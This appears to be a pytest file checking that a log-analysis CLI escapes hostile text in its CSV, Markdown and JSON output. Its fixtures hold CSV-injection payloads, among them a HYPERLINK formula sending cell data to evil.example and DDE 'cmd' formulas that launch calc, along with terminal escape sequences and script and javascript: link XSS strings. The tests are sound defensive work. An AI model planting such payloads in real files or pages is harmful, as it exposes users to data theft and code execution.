"""CSV opens safely in a spreadsheet, Markdown renders log text as text, JSON holds only finite numbers.

Rejected lines keep the raw log text (``rejects --format csv --wide``), and run ids come from the
command line and the logs: a cell starting with ``=``, ``+``, ``-``, ``@``, tab or CR is a formula to
a spreadsheet (OWASP, "CSV Injection"), an ESC byte reaches the terminal that shows the file, and a
``<script>`` or ``[x](javascript:...)`` in Markdown is a tag or a link once rendered.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import polars as pl
import pytest
from markdown_it import MarkdownIt
from typer.testing import CliRunner

from tests.support.lead_records import lead_frame
from tierscope.cli import app
from tierscope.cli.tables import Column, Grid, markdown, to_csv, to_json
from tierscope.dataset.store import Dataset

runner = CliRunner()

#: raw log text -> the cell a spreadsheet must get (a leading ' makes it text; controls escaped)
HOSTILE = {
    '=HYPERLINK("http://evil.example/?"&A1,"click")': '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "'\\x09=1+1",
    "\r=1+1": "'\\x0d=1+1",
    "step 5 \x1b]0;owned\x07 \x1b[31mred": "step 5 \\x1b]0;owned\\x07 \\x1b[31mred",
    "Train [worker/0], step 1": "Train [worker/0], step 1",  # plain text: as it was
}


@pytest.fixture
def hostile_rejects(tmp_path: Path) -> Path:
    root = tmp_path / "ds"
    raws = list(HOSTILE)
    frame = pl.DataFrame(
        {
            "run_id": "=1+1",  # a run id is the user's text too
            "source": "app.log",
            "source_offset": list(range(1, len(raws) + 1)),
            "format": "cloudml",
            "reason": "no step",
            "raw": raws,
        }
    )
    Dataset(root).append("rejects", frame)
    return root


def test_rejects_csv_neutralises_formulas_and_controls(hostile_rejects: Path) -> None:
    done = runner.invoke(app, ["rejects", "-d", str(hostile_rejects), "--format", "csv", "--wide"])
    assert done.exit_code == 0, done.output
    rows = list(csv.DictReader(io.StringIO(done.stdout)))
    assert [r["raw"] for r in rows] == list(HOSTILE.values())
    assert {r["run_id"] for r in rows} == {"'=1+1"}
    assert [r["source_offset"] for r in rows] == [str(i) for i in range(1, len(HOSTILE) + 1)]  # numbers stay
    assert "\x1b" not in done.stdout


def test_a_negative_number_stays_a_number_and_negative_text_is_text() -> None:
    text = to_csv([{"speedup": -3.2, "steps": -7, "note": "-3.2", "missing": None, "rate": float("inf")}])
    (row,) = csv.DictReader(io.StringIO(text))
    # the figure is written as the number it is (a spreadsheet reads -3.2, no formula without an operator
    # after the sign); the same characters as text from a log get the leading '
    assert row == {"speedup": "-3.2", "steps": "-7", "note": "'-3.2", "missing": "", "rate": ""}


def _rendered(text: str) -> str:
    """``text`` rendered as GitHub renders Markdown tables: raw HTML passed through."""
    return MarkdownIt("commonmark", {"html": True}).enable("table").render(text)


def test_markdown_shows_html_and_links_as_text() -> None:
    grid = Grid([Column("run", "name"), Column("note", "text")], title="runs <b>bold</b>")
    grid.add("<script>alert(1)</script>", "[click](javascript:alert(1)) ![i](http://x/i.png) a|b `c`")
    grid.notes.append("<img src=x onerror=alert(1)> <javascript:alert(1)>")
    html = _rendered(markdown(grid, wide=True))
    assert "<script" not in html and "<img" not in html and "<a " not in html and "<b>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html  # shown as written
    assert "[click](javascript:alert(1)) ![i](http://x/i.png) a|b `c`" in html
    assert html.count("<td>") == 2  # the | inside a cell split nothing


def test_summary_markdown_of_a_hostile_run_id(tmp_path: Path) -> None:
    root = tmp_path / "ds"
    run_id = "<script>alert(1)</script>"
    steps = list(range(1, 11))
    Dataset(root).append("steps", lead_frame(run_id, steps, [s / 10 for s in steps], 10.0))
    done = runner.invoke(app, ["summary", "-d", str(root), "--format", "markdown"])
    assert done.exit_code == 0, done.output
    html = _rendered(done.stdout)
    assert "<script" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_json_never_says_infinity() -> None:
    text = to_json([{"rate": float("inf"), "low": float("-inf"), "ratio": float("nan"), "ok": 1.5}])
    assert json.loads(text) == [{"rate": None, "low": None, "ratio": None, "ok": 1.5}]
    assert "Infinity" not in text and "NaN" not in text
